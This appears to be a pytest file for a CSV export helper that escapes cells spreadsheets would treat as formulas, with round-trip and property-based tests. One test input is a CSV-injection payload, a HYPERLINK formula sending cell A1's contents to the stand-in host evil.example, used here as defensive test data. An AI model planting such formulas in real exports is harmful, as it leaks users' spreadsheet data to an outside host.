"""Tables as CSV: read back by Python, and held against what spreadsheets take for a formula."""

from __future__ import annotations

import csv
import io
import re

import pandas
import pytest
from hypothesis import given
from hypothesis import strategies as st

from rc_nb_helpers.spreadsheets import csv_text


def read(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline=""), strict=True))


def cell(text: str) -> str:
    """What becomes of one cell."""
    return read(csv_text(["Heading"], [[text]]))[1][0]


def test_table_is_read_back():
    columns = ["Name", 'With "quotes"', "Umläut"]
    rows = [["a, b", 'c"d', "e\nf"], ["", " ", "é中😀"]]
    text = csv_text(columns, rows)
    assert text.startswith('"Name","With ""quotes""","Umläut"\r\n')
    assert text.endswith("\r\n")
    assert read(text) == [columns, *rows]
    frame = pandas.read_csv(io.StringIO(text, newline=""), dtype=str, keep_default_na=False)
    assert [list(frame.columns), *frame.values.tolist()] == [columns, *rows]


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("https://evil.example/?"&A1,"more")',
        "+1+2",
        "-2+3",
        "@SUM(1)",
        "\t=1",
        "\r=1",
        "  =1",
        '"=1',
        "\u201c=1",
        "\u00a0\ufeff=1",
        "＝1",
        "＋1",
        "－1",
        "＠x",
        "'=1",
        "-5-",
        "-",
        "--5",
        "-5E9999",
        "-1234567890123456",
    ],
)
def test_formula_is_text(text):
    stripped = text.lstrip("\t\r")
    assert cell(text) == text[: len(text) - len(stripped)] + "'" + stripped


@pytest.mark.parametrize("between", [";", "\t", "\n", "\r\n", "; ", ';"'])
def test_formula_behind_what_others_split_at_is_text(between):
    """A spreadsheet that splits at semicolons takes the rest for a cell of its own."""
    assert cell(f"Hello{between}=1+1") in (f"Hello{between}'=1+1", f"Hello{between[:1]}'{between[1:]}=1+1")


def test_phone_number_keeps_its_plus():
    assert cell("+16505550100") == "'+16505550100"


@pytest.mark.parametrize(
    "text", ["-5", "-0.25", "5", "2026-01-31 10:00", "a-b", "x=1", "me@example.com", "O'Brien", ""]
)
def test_all_else_stays_as_it_is(text):
    assert cell(text) == text


def test_headings_are_looked_at_as_well():
    assert read(csv_text(["=1"], [])) == [["'=1"]]


def test_what_no_file_could_hold_is_left_out():
    assert cell("a\0b\ud83dc") == "ab\ufffdc"
    assert cell("\ud83d\ude00") == "😀"


@given(st.lists(st.lists(st.text(), min_size=2, max_size=2), max_size=4))
def test_whatever_is_in_a_table_is_read_back_and_begins_no_formula(rows):
    text = csv_text(["A", "B"], rows)
    for cells, read_back in zip(rows, read(text)[1:], strict=True):
        for before, after in zip(cells, read_back, strict=True):
            assert after.replace("'", "") == before.replace("\0", "").replace("'", "")
            if not re.fullmatch(r"-[0-9.]+", after):
                for part in re.split(r"[;\t\r\n]", after):
                    assert not part.lstrip(' "\u00a0').startswith(("=", "+", "-", "@", "＝", "＋", "－", "＠"))
